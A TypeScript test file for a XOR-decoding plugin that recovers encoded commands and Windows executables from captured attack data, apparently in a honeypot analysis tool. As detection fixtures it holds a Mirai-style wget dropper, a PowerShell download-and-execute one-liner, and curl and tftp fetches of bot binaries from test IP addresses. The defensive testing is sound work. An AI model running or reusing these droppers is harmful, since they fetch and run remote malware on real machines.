import { randomBytes } from 'node:crypto'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { createXorDecodePlugin, XorDecodeOptions } from '../../src/plugins/decoders/xor-decode.js'
import { findXorKeys, type XorSearchOptions } from '../../src/plugins/decoders/xor.js'
import { attackOf, runPlugin, subjectOf } from '../helpers/plugin-harness.js'

/** `plain` XORed with `key`, the key's first byte applied at `phase` (the blob's own offset 0). */
function xor(plain: Buffer | string, key: readonly number[], phase = 0): Buffer {
  const bytes = typeof plain === 'string' ? Buffer.from(plain, 'latin1') : plain
  return Buffer.from(bytes.map((b, i) => b ^ (key[(i + phase) % key.length] as number)))
}

/** A small PE: the usual DOS header and stub, e_lfanew 0x80, "PE\0\0", then a body. */
function fakePe(options: { stub?: boolean } = {}): Buffer {
  const pe = Buffer.alloc(0x80 + 4 + 512)
  Buffer.from('4d5a90000300000004000000ffff0000b800000000000000400000000000000000', 'hex').copy(pe)
  pe.writeUInt32LE(0x80, 0x3c)
  if (options.stub !== false) Buffer.from('This program cannot be run in DOS mode.\r\r\n$', 'latin1').copy(pe, 0x4e)
  pe.write('PE\0\0', 0x80, 'latin1')
  randomBytes(512).copy(pe, 0x84)
  return pe
}

const plugin = createXorDecodePlugin(XorDecodeOptions.parse(undefined))
const search: XorSearchOptions = { maxKeyLength: 4, maxScanBytes: 1024 * 1024, printableRatio: 0.9, minBytes: 12, maxFindings: 16 }
const DROPPER = 'cd /tmp || cd /var/run; wget http://203.0.113.7/bins/mips -O .x; chmod +x .x; ./.x telnet.mips'

describe('findXorKeys', () => {
  it('finds a single-byte key behind a length-prefixed command, without the prefix', () => {
    const body = xor(DROPPER, [0x5a])
    const length = Buffer.alloc(4)
    length.writeUInt32BE(body.length)
    const found = findXorKeys(Buffer.concat([length, body]), search)
    expect(found.map((f) => [f.key.toString('hex'), f.offset, f.data.toString('latin1')])).toEqual([['5a', 4, DROPPER]])
  })

  it('finds a repeating key inside a blob and reports it as applied from the blob start', () => {
    const command = 'powershell -nop -w hidden -c "IEX (iwr http://203.0.113.7/a.ps1)"'
    const key = [0xde, 0xad, 0xbe, 0xef]
    // Five header bytes that decode to controls under the found key, so the text region starts at the blob.
    const header = xor(Buffer.from([0x01, 0x02, 0x03, 0x04, 0x05]), [0xef, 0xde, 0xad, 0xbe])
    const found = findXorKeys(Buffer.concat([header, xor(command, key)]), search)
    expect(found.map((f) => [f.key.toString('hex'), f.offset, f.data.toString('latin1')])).toEqual([['deadbeef', 5, command]])
  })

  it('reduces a periodic key to its period and never reports key 0', () => {
    const found = findXorKeys(xor(DROPPER, [0x41, 0x41, 0x41, 0x41]), search)
    expect(found.map((f) => f.key.toString('hex'))).toEqual(['41'])
    // Plain text, also with capitals that a case-flipping key (0x20, 20202000) would turn into "cmd.exe".
    expect(findXorKeys(Buffer.from(`GET /?u=${DROPPER} HTTP/1.1\r\nUser-Agent: CMD.EXE /C DIR\r\nX: POWERSHELL\r\n`), search)).toEqual([])
  })

  it('finds XORed PE files by MZ and e_lfanew, by the standard header, and by the DOS stub', () => {
    for (const key of [[0x37], [0x13, 0x37], [0x01, 0x02, 0x03], [0xaa, 0xbb, 0xcc, 0xdd]]) {
      for (const stub of [true, false]) {
        const pe = fakePe({ stub })
        const prefix = Buffer.from('0102030405060708', 'hex')
        const found = findXorKeys(Buffer.concat([prefix, xor(pe, key)]), search)
        const exe = found.find((f) => f.data.subarray(0, 2).toString('latin1') === 'MZ')
        expect(exe?.offset, `key ${key.join(',')} stub ${stub}`).toBe(8)
        expect(exe?.data.equals(pe)).toBe(true)
      }
    }
  })

  it('does not take MZ without a PE header for a PE', () => {
    const notPe = Buffer.concat([Buffer.from('MZ', 'latin1'), randomBytes(300)])
    notPe.writeUInt32LE(0x80, 0x3c)
    expect(findXorKeys(xor(notPe, [0x37]), search).filter((f) => f.crib.startsWith('MZ') || f.crib === 'DOS stub')).toEqual([])
  })

  it('honours maxScanBytes, maxKeyLength, minBytes and maxFindings', () => {
    const late = Buffer.concat([Buffer.alloc(5000), xor(DROPPER, [0x5a])])
    expect(findXorKeys(late, { ...search, maxScanBytes: 4096 })).toEqual([])
    expect(findXorKeys(late, { ...search, maxScanBytes: 8192 })).toHaveLength(1)
    const long = xor(DROPPER, [1, 2, 3, 4])
    expect(findXorKeys(long, { ...search, maxKeyLength: 3 })).toEqual([])
    expect(findXorKeys(xor('wget http://x', [7]), search)).toHaveLength(1)
    expect(findXorKeys(xor('wget http://x', [7]), { ...search, minBytes: 14 })).toEqual([])
    const many = Buffer.concat(Array.from({ length: 20 }, (_, i) => Buffer.concat([Buffer.from([0]), xor(`curl http://203.0.113.${i}/x`, [i + 1]), Buffer.from([0])])))
    expect(findXorKeys(many, { ...search, maxFindings: 5 })).toHaveLength(5)
  })

  it('recovers text containing a crib from any key of 1..4 bytes (but the case-flipping ones)', () => {
    const printable = fc.string({ unit: 'grapheme-ascii', minLength: 3, maxLength: 60 })
    const crib = fc.constantFrom('http://', 'https://', '/bin/sh', 'powershell', 'cmd.exe')
    // Keys of only 0x00 and 0x20 bytes are refused on purpose (they flip letter case; see keyAt in xor.ts).
    const key = fc.uint8Array({ minLength: 1, maxLength: 4 }).filter((k) => k.some((b) => b !== 0 && b !== 0x20))
    fc.assert(
      fc.property(printable, crib, printable, key, (before, c, after, k) => {
        const plain = `${before}${c}${after}`
        const found = findXorKeys(xor(plain, [...k]), search)
        // The whole subject decodes to text, so the region is all of it: exactly the plain text, crib included.
        expect(found.map((f) => f.data.toString('latin1'))).toContain(plain)
      }),
      { numRuns: 500 },
    )
  })

  it('stays fast on inputs crafted to match everywhere', () => {
    const started = performance.now()
    // Every position passes the key-free test of "MZ" with a 1-byte key, and of any 2-byte-key crib.
    const alternating = Buffer.from(Array.from({ length: 1024 * 1024 }, (_, i) => (i % 2 === 1 ? 0x41 ^ 0x17 : 0x41)))
    expect(findXorKeys(alternating, { ...search, maxKeyLength: 8 })).toEqual([])
    // "wget " under 65,536 different keys, each too short to keep.
    const keys = Buffer.concat(Array.from({ length: 65_536 }, (_, i) => Buffer.concat([xor('wget ', [i & 0xff, i >> 8, 7]), Buffer.from([0xfe])])))
    expect(findXorKeys(keys, search)).toEqual([])
    // One key that decodes all of 1 MiB to text: found once, not once per crib match.
    expect(findXorKeys(xor(Buffer.alloc(1024 * 1024, 'wget http://a/ ;'), [1, 2, 3]), search)).toHaveLength(1)
    expect(performance.now() - started).toBeLessThan(5000)
  })

  it('never throws on arbitrary bytes and keeps to maxFindings', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 2000 }), fc.integer({ min: 1, max: 8 }), (bytes, maxKeyLength) => {
        expect(findXorKeys(bytes, { ...search, maxKeyLength, maxFindings: 3 }).length).toBeLessThanOrEqual(3)
      }),
      { numRuns: 300 },
    )
  })
})

describe('xorDecode plugin', () => {
  it('has strict options with defaults', () => {
    expect(XorDecodeOptions.parse(undefined)).toEqual({ maxKeyLength: 4, maxScanBytes: 1024 * 1024, minBytes: 12, printableRatio: 0.9, maxPayloads: 8 })
    expect(() => XorDecodeOptions.parse({ maxKeyLength: 9 })).toThrow()
    expect(() => XorDecodeOptions.parse({ keys: [1] })).toThrow()
  })

  it('yields the URL and the PE of an XOR-encoded attack', async () => {
    const pe = fakePe()
    // A length, the command as an encoded C string (its NUL encoded too), then the encoded PE.
    const stage = Buffer.concat([Buffer.from([0x00, 0x00, 0x01, 0x9c]), xor(`${DROPPER}\0`, [0x5a]), xor(pe, [0x13, 0x37])])
    const collected = await runPlugin(plugin, subjectOf(attackOf(stage, { target: { address: '198.18.0.1', port: 23 } })))
    expect(collected.payloads.map((p) => p.origin)).toEqual(['xorDecode:key=5a', 'xorDecode:key=1337'])
    expect(collected.payloads[0]?.data.toString('latin1')).toBe(DROPPER)
    expect(collected.payloads[1]?.data.equals(pe)).toBe(true)
    expect(collected.artifacts).toEqual([])
  })

  it('caps the payloads of one subject', async () => {
    const many = Buffer.concat(Array.from({ length: 20 }, (_, i) => Buffer.concat([Buffer.from([0]), xor(`tftp -g -r bot${i}.arm 203.0.113.9`, [0x80 + i]), Buffer.from([0])])))
    const collected = await runPlugin(plugin, subjectOf(attackOf(many)))
    expect(collected.payloads).toHaveLength(8)
    const few = await runPlugin(createXorDecodePlugin(XorDecodeOptions.parse({ maxPayloads: 2 })), subjectOf(attackOf(many)))
    expect(few.payloads).toHaveLength(2)
  })

  it('survives empty, 1-byte and 1 MiB random subjects quickly, within the cap', async () => {
    const wide = createXorDecodePlugin(XorDecodeOptions.parse({ maxKeyLength: 8 }))
    for (const data of [Buffer.alloc(0), Buffer.from([0x4d]), randomBytes(1024 * 1024)]) {
      const started = performance.now()
      for (const p of [plugin, wide]) {
        const collected = await runPlugin(p, subjectOf(attackOf(data)))
        expect(collected.payloads.length).toBeLessThanOrEqual(8)
        for (const payload of collected.payloads) expect(payload.data.equals(data)).toBe(false)
      }
      expect(performance.now() - started).toBeLessThan(5000)
    }
  })
})
